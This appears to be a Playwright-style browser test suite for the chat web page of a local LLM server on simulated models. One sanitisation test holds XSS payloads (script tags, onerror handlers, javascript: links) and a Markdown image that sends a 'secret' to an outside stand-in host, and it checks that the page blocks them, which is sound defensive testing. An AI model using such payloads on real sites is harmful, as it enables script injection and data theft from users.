// The web page, used by a person who has a real Chromium: the real server, on the simulator.
//
// TESTED_PROGRAM names the binary. Without Chromium everything is skipped (exit code 77). With SCREENSHOTS=FOLDER the
// pictures of the documentation are written there.
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { Server } from '../clients/support/server.mjs';
import { eventually } from '../clients/support/eventually.mjs';
import { find_chromium, open_page, start_browser, tasks_during, watch } from './browser.mjs';

if (!find_chromium()) {
  console.log('skipped: no Chromium is installed; apt-get install chromium, or set CHROMIUM to its path');
  process.exit(77);
}

const axe = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const kToken = 'right-horse-battery-staple-right';
const kGuestToken = 'guest-horse-battery-staple-guest';

const kContext = 65536; // for a question as long as its answer

let directory;
let server; // everybody may call
let guarded; // asks for an access token
let browser;
const at = (which) => `http://127.0.0.1:${which.port('http')}`;

before(async () => {
  directory = await mkdtemp(join(tmpdir(), 'rkllm-mcp-page-'));
  const model = (name, fields) =>
    writeFile(join(directory, `${name}.rkllm`), JSON.stringify({ rkllm_simulated_model: 1, name: `SIMULATED ${name}`, max_context_len: kContext, ...fields }));
  await model('qwen2-board', { decode_tokens_per_s: 16.7, prefill_tokens_per_s: 340, languages: { en: 1, vi: 1 } });
  await model('qwen2-quick', {});
  await model('qwen2-slow', { decode_tokens_per_s: 20 });
  await model('qwen2-stream', { decode_tokens_per_s: 2500 });
  await model('qwen3-thinker', { decode_tokens_per_s: 60, thinking: true });
  const tokens = join(directory, 'tokens');
  await writeFile(tokens, `tester ${kToken}\nguest ${kGuestToken} call\n`, { mode: 0o600 });
  const settings = { 'runtime.model_dirs': JSON.stringify([directory]), 'runtime.default_context': kContext };
  [server, guarded, browser] = await Promise.all([Server.start(settings), Server.start({ ...settings, 'auth.tokens': tokens, 'http.address': '0.0.0.0' }), start_browser()]);
});

after(async () => {
  await browser?.close();
  await Promise.all([server?.stop(), guarded?.stop()]);
  await rm(directory, { recursive: true, force: true });
});

const message_field = (page) => page.getByLabel('Message', { exact: true });
const answers = (page) => page.locator('article.answer');
const say = (text) => `@say=${JSON.stringify(text).replaceAll('<', '\\u003c')}`;

async function use_model(page, name) {
  await page.getByLabel('Model', { exact: true }).and(page.locator('select')).selectOption(name);
}

async function ask(page, text) {
  await message_field(page).fill(text);
  await message_field(page).press('Enter');
}

// The answer that is the `count`-th, when it is complete.
async function complete(page, count = 1) {
  await answers(page).nth(count - 1).getByRole('button', { name: 'Copy the answer' }).waitFor();
  return answers(page).nth(count - 1);
}

async function end(page) {
  assert.deepEqual(page.faults, []);
  await page.context().close();
}

async function assert_accessible(page) {
  await page.evaluate(axe);
  const { violations } = await page.evaluate(() => globalThis.axe.run(document, { resultTypes: ['violations'] }));
  assert.deepEqual(violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html, failureSummary }) => html + failureSummary).join(' | ')}`), []);
}

const tokens_generated = async () => Number(/^rkllm_mcp_tokens_total (\d+)/m.exec(await (await fetch(`${at(server)}/metrics`)).text())[1]);

test('the page is served with a strict policy, and only to who asks for it', async () => {
  const address = at(server);
  const html = await fetch(`${address}/`, { headers: { Accept: 'text/html' } });
  assert.equal(html.status, 200);
  assert.match(html.headers.get('content-security-policy'), /^default-src 'self'; /);
  assert.doesNotMatch(html.headers.get('content-security-policy'), /unsafe/);
  const again = await fetch(`${address}/`, { headers: { Accept: 'text/html', 'If-None-Match': html.headers.get('etag') } });
  assert.equal(again.status, 304);
  assert.equal(await (await fetch(`${address}/`, { headers: { Accept: '*/*' } })).text(), 'Ollama is running');
});

test('an answer streams, in Markdown, with its figures; then it is edited and made again', async () => {
  const page = await open_page(browser, at(server));
  await page.getByText('SIMULATED: no model runs here').waitFor();
  await use_model(page, 'qwen2-slow');
  await ask(page, '@n=40 Tell me about boards');
  await answers(page).getByText('.').first().waitFor();
  await page.getByRole('button', { name: 'Stop' }).waitFor(); // it still goes on
  await complete(page);
  assert.match(await answers(page).locator('.figures').textContent(), /tokens\/s · first token after [\d.]+ s · 40 tokens/);
  // What the server measures is the answer's, too: not that of the run of one token that warms the model up behind it.
  const runs = /^rkllm_mcp_calls_total\{method="rkllm_run",outcome="ok"\} (\d+)/m;
  await eventually(async () => Number(runs.exec(await (await fetch(`${at(server)}/metrics`)).text())[1]) >= 2);
  const [{ tokens_per_second }] = (await (await fetch(`${at(server)}/health`)).json()).models;
  assert.ok(tokens_per_second > 10 && tokens_per_second < 30, `${tokens_per_second}`);

  await use_model(page, 'qwen2-quick');
  await page.getByRole('button', { name: 'Edit' }).click();
  await page.getByLabel('Edit the message').fill(say('# Boards\n\n- **small**\n- cheap\n\n```c\nint main() {}\n```\n'));
  await page.getByRole('button', { name: 'Send again' }).click();
  const answer = await complete(page);
  await answer.locator('li strong', { hasText: 'small' }).waitFor();
  assert.equal(await answer.locator('pre').textContent(), 'int main() {}\n');
  await answer.getByRole('button', { name: 'Copy', exact: true }).click();
  await answer.getByRole('button', { name: 'Answer again' }).click();
  await complete(page);
  assert.equal(await page.locator('article').count(), 2);
  await assert_accessible(page);
  await end(page);
});

test('thinking is folded away', async () => {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen3-thinker');
  await ask(page, '@n=60 Why is the sky blue?');
  const answer = await complete(page);
  const folded = answer.locator('details.thinking');
  assert.equal(await folded.getAttribute('open'), null);
  await folded.locator('summary').click();
  await folded.locator('.plain').waitFor();
  await end(page);
});

test('Stop ends the run, and keeps what was said', async () => {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen2-slow');
  await ask(page, '@n=4000 Count');
  await answers(page).getByText('.').first().waitFor();
  await page.getByRole('button', { name: 'Stop' }).click();
  const answer = await complete(page);
  await answer.getByText('Stopped').waitFor();
  assert.ok((await answer.locator('.part').first().textContent()).length > 0);
  // The model is free: the next answer begins at once, and ends by the Escape key.
  await ask(page, '@n=4000 Again');
  await answers(page).nth(1).getByText('.').first().waitFor();
  await page.keyboard.press('Escape');
  await complete(page, 2);
  await end(page);
});

test('leaving the page in the middle of an answer loses nothing, and ends the run', async () => {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen2-slow');
  await ask(page, '@n=4000 Tell me everything');
  await answers(page).getByText('This is a simulated answer.').waitFor();
  await page.reload();
  const answer = await complete(page);
  await answer.getByText('Interrupted').waitFor();
  assert.match(await answer.locator('.part').first().textContent(), /^\s*This is a simulated answer\./);
  await page.getByText('@n=4000 Tell me everything').first().waitFor();
  await ask(page, '@n=3 And now?'); // would wait for minutes if the run still went on
  await complete(page, 2);
  // The server's memory has it as well: another tab finds it.
  const other = await page.context().newPage();
  watch(other, at(server));
  await other.goto(`${at(server)}/`);
  await other.getByRole('button', { name: /^@n=4000 Tell me everything/ }).click();
  await complete(other, 2);
  await other.getByRole('button', { name: /^Delete/ }).first().waitFor();
  other.once('dialog', (dialog) => dialog.accept());
  await other.getByRole('button', { name: 'Delete “@n=4000 Tell me everything”' }).click();
  await other.getByRole('button', { name: 'Delete “@n=4000 Tell me everything”' }).waitFor({ state: 'detached' });
  assert.deepEqual(other.faults, []);
  await end(page);
});

test('a wrong access token is refused in words, a right one opens everything', async () => {
  const page = await open_page(browser, at(guarded));
  const field = page.getByRole('dialog').getByLabel('Access token');
  await page.getByText('This server asks for an access token.').waitFor();
  await assert_accessible(page);
  await field.fill('wrong');
  await field.press('Enter');
  await page.getByText('Nobody has this access token.').waitFor();
  await field.fill(kToken);
  await page.getByRole('button', { name: 'Use it' }).click();
  await page.getByRole('dialog').waitFor({ state: 'hidden' });
  await use_model(page, 'qwen2-quick');
  await ask(page, '@n=3 Hello');
  await complete(page);
  // It is kept for this tab, and for nobody else.
  assert.deepEqual(await page.evaluate(() => [sessionStorage['rkllm.access_token'], Object.values(localStorage).join(), document.cookie]),
    [kToken, 'qwen2-quick', '']);
  await page.reload();
  await complete(page);
  const other = await page.context().newPage();
  watch(other, at(guarded));
  await other.goto(`${at(guarded)}/`);
  await other.getByText('This server asks for an access token.').waitFor();
  await end(page);
});

test('a page that was opened under a name the server does not know says what to do', async () => {
  const address = `http://board.local:${guarded.port('http')}`;
  const page = await open_page(browser, address);
  await page.getByRole('dialog').getByLabel('Access token').fill(kToken);
  await page.keyboard.press('Enter');
  await page.getByRole('dialog').waitFor({ state: 'hidden' });
  await use_model(page, 'qwen2-quick');
  await ask(page, '@n=3 Hello');
  await page.getByText('start the server with --set http.allowed_hosts=board.local').waitFor();
  await end(page);
});

test('two tabs talk at the same time, each its own conversation', async () => {
  const one = await open_page(browser, at(server));
  const two = await one.context().newPage();
  watch(two, at(server));
  await two.goto(`${at(server)}/`);
  await use_model(one, 'qwen2-slow');
  await use_model(two, 'qwen2-slow');
  await ask(one, say('one '.repeat(10)));
  await ask(two, say('two '.repeat(10)));
  const texts = [(await complete(one)).locator('.part').first(), (await complete(two)).locator('.part').first()];
  assert.match(await texts[0].textContent(), /^(one ?)+\s*$/);
  assert.match(await texts[1].textContent(), /^(two ?)+\s*$/);
  assert.deepEqual(two.faults, []);
  await end(one);
});

test('no text of a model becomes a script, a style, a picture or a form', async () => {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen2-quick');
  const evil = [
    '<script>window.stolen=1</script><img src=x onerror="window.stolen=1"><svg onload="window.stolen=1">',
    '[click](javascript:window.stolen=1) [data](data:text/html,x) ![picture](https://elsewhere.example/?secret)',
    '<iframe src="https://elsewhere.example"></iframe><form action="https://elsewhere.example"><input name=a></form>',
    '<style>body{display:none}</style><a href="x" style="position:fixed;inset:0" onclick="window.stolen=1">a</a>',
    '`<b>` <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.stolen=1&gt;">',
  ].join('\n\n');
  await ask(page, say(evil));
  const answer = await complete(page);
  for (const link of await answer.locator('a').all()) await link.evaluate((each) => each.protocol === 'javascript:' && each.click());
  assert.equal(await page.evaluate(() => window.stolen), undefined);
  assert.equal(await answer.locator('script, style, img, svg, iframe, form, input, math, [style], [onclick], [onerror]').count(), 0);
  assert.deepEqual(await answer.locator('a').evaluateAll((all) => all.map(({ href, rel, target }) => [href, rel, target])),
    [['', '', ''], ['', '', ''], ['https://elsewhere.example/?secret', 'noopener noreferrer', '_blank']]);
  await answer.getByText('<script>window.stolen=1</script>').waitFor(); // shown as what it is
  await end(page);
});

test('Vietnamese: the page, the question and the answer', async () => {
  const page = await open_page(browser, at(server), { locale: 'vi-VN' });
  await page.getByRole('link', { name: 'Trò chuyện' }).waitFor();
  assert.equal(await page.locator('html').getAttribute('lang'), 'vi');
  await page.getByLabel('Mô hình', { exact: true }).and(page.locator('select')).selectOption('qwen2-quick');
  const text = 'Răng khôn mọc lệch gây đau: hãy đến gặp nha sĩ sớm nhé! 🦷';
  await page.getByLabel('Tin nhắn', { exact: true }).fill(say(text));
  await page.keyboard.press('Enter');
  await answers(page).getByRole('button', { name: 'Sao chép câu trả lời' }).waitFor();
  assert.equal((await answers(page).locator('.part').first().textContent()).trim(), text);
  await assert_accessible(page);
  await page.getByLabel('Ngôn ngữ').selectOption('en');
  await page.getByRole('link', { name: 'Models' }).waitFor();
  await end(page);
});

// ms of the processor, so that a slower one, or one that has more to do, stays below 200 by the clock.
const kLongestTask = 120;

// The answer to this question, of 10,000 tokens or so, is drawn in tasks that are no longer. `is_drawn` is asked in the page
// whether all of it is there; looking takes little time of the page's.
async function assert_no_long_task(question, is_drawn, check) {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen2-stream');
  const tasks = await tasks_during(browser, page, async () => {
    await ask(page, question);
    await eventually(() => page.evaluate(() => document.querySelector('article.answer .actions') !== null), 120_000);
    await eventually(() => page.evaluate(is_drawn));
  });
  const longest = Math.max(...tasks.map(({ processor }) => processor));
  console.log(`the longest task took ${longest} ms`);
  assert.ok(longest > 0 && longest <= kLongestTask, `a task took ${longest} ms`);
  const answer = answers(page).first();
  assert.ok(Number(/([\d,]+) tokens$/.exec(await answer.locator('.figures').textContent())[1].replace(',', '')) >= 9_900);
  await check(answer);
  // A long one would have been seen.
  const held_up = await tasks_during(browser, page, async () => {
    await page.evaluate(() => setTimeout(() => {
      for (const end = performance.now() + 250; performance.now() < end;);
      window.was_held_up = true;
    }));
    await eventually(() => page.evaluate(() => window.was_held_up)); // in a later task, so that the long one is complete
  });
  assert.ok(held_up.some(({ clock, processor }) => clock >= 250 && processor > 0));
  await end(page);
}

const lines = (count, line) => Array.from({ length: count }, (_, at) => line(at)).join('\n');

test('10,000 tokens are drawn without a task of more than 200 ms', async () => {
  await assert_no_long_task('@n=10000 Tell me a very long story', () => true, () => {});
});

test('so is one block of code, as long', async () => {
  const code = lines(1000, (at) => `  const value_${at} = compute(${at}, "text");`);
  await assert_no_long_task(say(`Look:\n\n\`\`\`js\n${code}\n\`\`\``), () => document.querySelector('.answer pre')?.textContent.endsWith('value_999 = compute(999, "text");\n'),
    async (answer) => assert.deepEqual(await answer.locator('pre').allTextContents(), [`${code}\n`]));
});

test('and one table', async () => {
  const table = lines(833, (at) => `| row ${at} | **${at * 7}** | \`code_${at}\` | some words |`);
  await assert_no_long_task(say(`| a | b | c | d |\n|---|--:|---|---|\n${table}`), () => document.querySelectorAll('.answer tbody tr').length === 833,
    async (answer) => {
      assert.equal(await answer.locator('table').count(), 1);
      assert.deepEqual(await answer.locator('tbody tr').last().locator('td, strong, code').allTextContents(),
        ['row 832', '5824', '5824', 'code_832', 'code_832', 'some words']);
    });
});

test('and one list', async () => {
  const list = lines(1000, (at) => `${at + 1}. item ${at} of **many**, each with a few words`);
  await assert_no_long_task(say(list), () => document.querySelectorAll('.answer li').length === 1000,
    async (answer) => {
      assert.equal(await answer.locator('ol').count(), 1);
      assert.equal(await answer.locator('li').last().textContent(), 'item 999 of many, each with a few words');
    });
});

test('models are loaded and unloaded, and runs and figures are shown as they are', async () => {
  const page = await open_page(browser, at(server), { hash: '#models' });
  const card = page.getByRole('listitem').filter({ has: page.getByRole('heading', { name: 'qwen2-quick' }) });
  await page.getByRole('button', { name: /^(Load|Unload): qwen2-quick/ }).waitFor();
  if (await page.getByRole('button', { name: 'Unload: qwen2-quick' }).isVisible()) {
    await page.getByRole('button', { name: 'Unload: qwen2-quick' }).click();
    await page.getByText('qwen2-quick is not loaded any more.').waitFor();
  }
  await page.getByRole('button', { name: 'Load: qwen2-quick' }).click();
  await page.getByText('qwen2-quick is loaded.').waitFor();
  await card.getByText('65,536 tokens').waitFor();
  await card.getByText('loaded', { exact: true }).waitFor();
  await assert_accessible(page);

  await page.getByRole('link', { name: 'Board' }).click();
  await page.getByText('NPU temperature, °C: unknown').waitFor(); // there is no NPU here
  await page.getByText('NPU load, %: unknown').waitFor();
  await page.getByRole('heading', { name: 'qwen2-quick' }).waitFor();
  const before = await tokens_generated();
  await fetch(`${at(server)}/v1/chat/completions`, { method: 'POST', body: JSON.stringify({ model: 'qwen2-quick', messages: [{ role: 'user', content: '@n=50 Hi' }] }) });
  assert.ok((await tokens_generated()) >= before + 50);
  await page.getByRole('img', { name: /^Tokens per second, all models: \d/ }).waitFor();
  await page.getByRole('img', { name: /^Time to first token of chats, seconds: \d/ }).waitFor();
  await assert_accessible(page);
  await end(page);
});

test('a run and those that wait for it are seen while they last', async () => {
  const page = await open_page(browser, at(server), { hash: '#board' });
  const given_up = new AbortController();
  const body = JSON.stringify({ model: 'qwen2-slow', messages: [{ role: 'user', content: '@n=4000 Hi' }], stream: true });
  for (let count = 0; count < 2; ++count) {
    fetch(`${at(server)}/v1/chat/completions`, { method: 'POST', body, signal: given_up.signal }).then((each) => each.text()).catch(() => {});
  }
  const card = page.getByRole('listitem').filter({ has: page.getByRole('heading', { name: 'qwen2-slow' }) });
  await card.getByText('answering').waitFor();
  given_up.abort();
  await card.getByText('idle').waitFor();
  await end(page);
});

test('what the kernel tells of the NPU is plotted, and gaps stay gaps', async () => {
  const page = await open_page(browser, at(server), { hash: '#models' });
  let load = 0.2;
  await page.route('**/metrics', async (route) => {
    const text = await (await route.fetch()).text();
    load += 0.2;
    await route.fulfill({ body: `${text}rkllm_mcp_npu_load_ratio{core="0"} ${load}\nrkllm_mcp_npu_load_ratio{core="1"} 0\nrkllm_mcp_npu_temperature_celsius 48.5\n` });
  });
  await page.getByRole('link', { name: 'Board' }).click();
  await page.getByRole('img', { name: /^NPU temperature, °C: 48.5/ }).waitFor();
  await page.getByRole('img', { name: /^NPU load, %: \d\d/ }).waitFor();
  assert.ok((await page.locator('canvas').count()) >= 2);
  await end(page);
});

test('without the memory server the page says so, and keeps the conversation in the tab', async () => {
  const page = await open_page(browser, at(server), { hash: '#connect' });
  await page.route('**/health', async (route) => {
    const health = await (await route.fetch()).json();
    await route.fulfill({ json: { ...health, services: {} } });
  });
  await page.goto(`${at(server)}/`);
  await page.getByText('The memory server is off').waitFor();
  await use_model(page, 'qwen2-quick');
  await ask(page, '@n=3 Only here');
  await complete(page);
  await page.reload();
  await complete(page);
  await page.getByRole('button', { name: 'New chat' }).click();
  await page.getByText('Ask the model on your board something.').waitFor();
  await end(page);
});

test('conversations are renamed, and found by what was said in them, with and without diacritics', async () => {
  const page = await open_page(browser, at(server));
  await use_model(page, 'qwen2-quick');
  await ask(page, say('Bánh cuốn Thanh Trì rất ngon'));
  await complete(page);
  await page.getByRole('button', { name: /^Rename “@say="Bánh/ }).click();
  const title = page.getByLabel('New title');
  await assert_accessible(page);
  await title.fill('Noodles');
  await title.press('Enter');
  await page.getByRole('button', { name: /^Noodles/ }).waitFor();
  await page.getByRole('button', { name: 'Rename “Noodles”' }).click();
  await title.press('Escape');
  await page.getByRole('button', { name: 'New chat' }).click();
  await ask(page, '@n=3 Something else');
  await complete(page);
  const search = page.getByRole('searchbox', { name: 'Search the conversations' });
  await search.fill('cuon thanh');
  await page.getByText('Conversations found: 1').waitFor();
  const found = page.locator('.conversations li');
  assert.equal(await found.count(), 1);
  await found.getByText('Bánh cuốn').waitFor();
  await assert_accessible(page);
  await found.getByRole('button', { name: /^Noodles/ }).click();
  await answers(page).getByText('Bánh cuốn Thanh Trì').waitFor();
  await search.fill('no such words anywhere');
  await page.getByText('Conversations found: 0').waitFor();
  await search.press('Escape');
  await page.getByRole('button', { name: /^@n=3 Something else/ }).waitFor();
  // One that the list does not show, since it has many newer ones before it, is opened with its title.
  await page.route('**/jsonrpc', async (route) => {
    const read = await (await route.fetch()).json();
    if (read.result?.conversations) read.result.conversations = read.result.conversations.filter(({ title }) => title !== 'Noodles');
    await route.fulfill({ json: read });
  });
  await page.reload();
  await page.getByRole('button', { name: /^@n=3 Something else/ }).waitFor();
  assert.equal(await page.getByRole('button', { name: /^Noodles/ }).count(), 0);
  await page.getByRole('button', { name: 'New chat' }).click();
  await search.fill('cuon thanh');
  await page.getByText('Conversations found: 1').waitFor();
  await page.locator('.conversations li button.open').click();
  await answers(page).getByText('Bánh cuốn Thanh Trì').waitFor();
  await eventually(() => page.evaluate(() => JSON.parse(sessionStorage['rkllm.conversation']).title === 'Noodles'));
  await end(page);
});

test('the log is shown as it is written, and only to who may see it', async () => {
  const page = await open_page(browser, at(server), { hash: '#log' });
  const lines = page.getByRole('log');
  await lines.getByText(/info: rkllm-mcp \d/).waitFor();
  const call = (method) => fetch(`${at(server)}/jsonrpc`, { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method }) });
  await call('rkllm_seen_in_the_log');
  await lines.getByText('rkllm_seen_in_the_log').waitFor();
  await page.getByLabel('Only lines with').fill('SEEN_IN');
  await eventually(async () => (await lines.textContent()).split('\n').every((line) => line.includes('seen_in')));
  await call('rkllm_seen_in_it_again');
  await lines.getByText('rkllm_seen_in_it_again').waitFor();
  await assert_accessible(page);
  await end(page);

  const guest = await open_page(browser, at(guarded), { hash: '#log' });
  await guest.getByRole('dialog').getByLabel('Access token').fill(kGuestToken);
  await guest.keyboard.press('Enter');
  await guest.getByText('The log is shown only to access tokens with the permission admin.').waitFor();
  assert.equal(await guest.getByRole('log').textContent(), '');
  await guest.getByRole('button', { name: 'Access token' }).click();
  await guest.getByRole('dialog').getByLabel('Access token').fill(kToken);
  await guest.keyboard.press('Enter');
  await guest.getByRole('log').getByText(/info: rkllm-mcp \d/).waitFor();
  await end(guest);
});

test('any tool is called by a form that its schema makes', async () => {
  const page = await open_page(browser, at(server), { hash: '#tools' });
  await page.getByLabel('Find a tool').fill('calc');
  await page.getByRole('button', { name: 'Calculate' }).click();
  await page.getByRole('button', { name: 'Call it' }).click();
  await page.getByText('expression is needed').waitFor();
  await page.getByLabel('expression').fill('0.1 + 0.2');
  await page.getByRole('button', { name: 'Call it' }).click();
  await page.locator('pre.result', { hasText: '"result": "0.3"' }).waitFor();
  await page.getByLabel('expression').fill('1 / 0');
  await page.getByRole('button', { name: 'Call it' }).click();
  await page.getByText('The tool has failed').waitFor();
  await assert_accessible(page);
  await page.getByLabel('Find a tool').fill('rkllm_init');
  await page.getByRole('button', { name: /rkllm_init/ }).click();
  await page.getByLabel(/^param/).fill('{');
  await page.getByRole('button', { name: 'Call it' }).click();
  await page.getByText('param: this is no JSON').waitFor();

  await page.getByRole('link', { name: 'Connect' }).click();
  await page.getByLabel('Program').selectOption('Cursor');
  await page.getByText(`${at(server)}/mcp`).waitFor();
  await page.getByRole('button', { name: 'Copy' }).click();
  await page.getByRole('button', { name: 'Copied' }).waitFor();
  await assert_accessible(page);
  await end(page);
});

// Every part of the page can be reached without scrolling sideways.
async function assert_tabs_in_sight(page) {
  const tabs = await page.locator('nav').evaluate((nav) => ({
    hidden: nav.scrollWidth - nav.clientWidth,
    outside: [...nav.children].filter((tab) => tab.getBoundingClientRect().left < 0 || tab.getBoundingClientRect().right > innerWidth).length,
  }));
  assert.deepEqual(tabs, { hidden: 0, outside: 0 });
}

test('375 pixels, dark, by the keyboard alone', async () => {
  const page = await open_page(browser, at(server), { viewport: { width: 375, height: 740 }, colorScheme: 'dark' });
  await page.getByText('SIMULATED').waitFor();
  assert.equal(await page.locator('html').getAttribute('data-theme'), 'dark');
  await use_model(page, 'qwen2-quick');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  await page.locator(':focus').waitFor();
  await message_field(page).focus();
  await page.keyboard.type(say(`A wide one: ${'w'.repeat(300)}\n\n| a | b |\n|---|---|\n| ${'x'.repeat(200)} | 2 |\n\n\`\`\`\n${'y'.repeat(200)}\n\`\`\``));
  await page.keyboard.press('Enter');
  await complete(page);
  for (const view of ['chat', 'models', 'board', 'tools', 'log', 'connect']) {
    await page.evaluate((hash) => (location.hash = hash), view);
    await page.locator(`nav a[href="#${view}"][aria-current]`).waitFor();
    const { wide, shown } = await page.evaluate(() => ({ wide: Math.max(document.documentElement.scrollWidth, document.querySelector('main').scrollWidth), shown: innerWidth }));
    assert.ok(wide <= shown, `${view} is ${wide} pixels wide`);
    await assert_accessible(page);
  }
  await assert_tabs_in_sight(page);
  await page.getByLabel('Language').selectOption('vi');
  await page.getByRole('link', { name: 'Nhật ký' }).waitFor();
  await assert_tabs_in_sight(page);
  await end(page);
});

// --- the pictures of the documentation ------------------------------------------------------------------------------------

if (process.env.SCREENSHOTS) {
  const picture = (page, name) => page.screenshot({ path: join(process.env.SCREENSHOTS, `${name}.png`) });

  test('pictures for the documentation', async () => {
    const shown = await Server.start({ 'runtime.model_dirs': JSON.stringify([directory]), 'runtime.default_context': kContext });
    const page = await open_page(browser, at(shown), { viewport: { width: 1000, height: 640 } });
    await use_model(page, 'qwen2-board');
    for (const question of ['Why is the sky blue?', 'Viết cho tôi một bài thơ ngắn', 'What can a small board do for me?']) {
      await page.getByRole('button', { name: 'New chat' }).click();
      await ask(page, question);
      await complete(page);
    }
    await ask(page, 'Without the internet?');
    await complete(page, 2);
    await picture(page, 'chat');
    await page.setViewportSize({ width: 1000, height: 900 });
    await page.getByRole('link', { name: 'Board' }).click();
    for (let run = 0; run < 5; ++run) {
      await (await fetch(`${at(shown)}/v1/chat/completions`, { method: 'POST', body: JSON.stringify({ model: 'qwen2-board', messages: [{ role: 'user', content: `@n=${20 + 15 * run} Hi` }] }) })).text();
    }
    await page.getByRole('img', { name: /^Tokens per second, all models: \d/ }).waitFor();
    await eventually(async () => (await page.locator('.cards').textContent()).includes('idle'));
    await picture(page, 'board');
    await page.context().close();
    const phone = await open_page(browser, at(shown), { viewport: { width: 375, height: 740 }, colorScheme: 'dark', locale: 'vi-VN' });
    await phone.getByLabel('Tin nhắn', { exact: true }).fill('Bo mạch nhỏ làm được gì cho tôi?');
    await phone.keyboard.press('Enter');
    await answers(phone).getByRole('button', { name: 'Sao chép câu trả lời' }).waitFor();
    await picture(phone, 'phone');
    await end(phone);
    await shown.stop();
  });
}
